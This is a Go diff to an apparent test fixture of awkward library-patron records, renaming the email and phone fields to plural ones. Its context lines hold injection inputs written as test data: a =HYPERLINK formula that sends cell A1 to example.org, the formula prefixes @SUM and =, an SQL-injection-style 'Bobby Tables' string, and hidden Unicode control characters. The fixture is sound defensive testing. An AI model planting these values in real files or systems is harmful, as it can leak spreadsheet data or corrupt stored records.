@@ -65,7 +65,7 @@ var hostileNames = []Person{
 	{Card: "90000008", What: "C1 control (U+009B) used as an escape sequence", branch: "CAM-HAR", category: adult, surname: "Nelson\u009b31m", forenames: "\u0085Ned\u2028", born: "1983-01-17"},
 	{Card: "90000009", What: "zero-width, tag and soft-hyphen characters", branch: "KEN-ALD", category: adult, surname: "Za\u200bck\U000E0041ary\u00ad", forenames: "\ufeffTheo\u2060", born: "2001-06-06"},
 	{Card: CardHyperlink, What: "spreadsheet formula =HYPERLINK", branch: "KEN-ALD", category: adult, surname: `=HYPERLINK("http://example.org/?q="&A1,"Click")`, forenames: "+Anna", born: "1977-04-25", adjust: func(_ *generator, p *person) {
-		p.email, p.phone = "-1+1@example.org", "=1+44"
+		p.emails, p.phones = "-1+1@example.org; +2@example.org", "=1+44; @44"
 	}},
 	{Card: "90000011", What: "spreadsheet formula @SUM, and quotes, commas and a line break in the address", branch: "KEN-LON", category: adult, surname: "@SUM(A1:A9)", forenames: `"Bobby", 'Tables'); --`, born: "1959-09-09", adjust: func(_ *generator, p *person) {
 		p.lines = "Flat \"2\", The Mill\r\n=1+1\n| a | b |"
@@ -82,7 +82,7 @@ func (g *generator) awkward(i int) person {
 			registered: g.today - 6*year, expires: g.today + year/2, deleted: never, also: nowhere,
 		},
 		surname: entry.surname, forenames: entry.forenames, card: entry.Card, cardStatus: "active", lastFee: never,
-		email: "reader" + strconv.Itoa(i+1) + "@example.org",
+		emails: "reader" + strconv.Itoa(i+1) + "@example.org",
 	}
 	p.home = branches[p.branch].authority
 	p.language = "en"
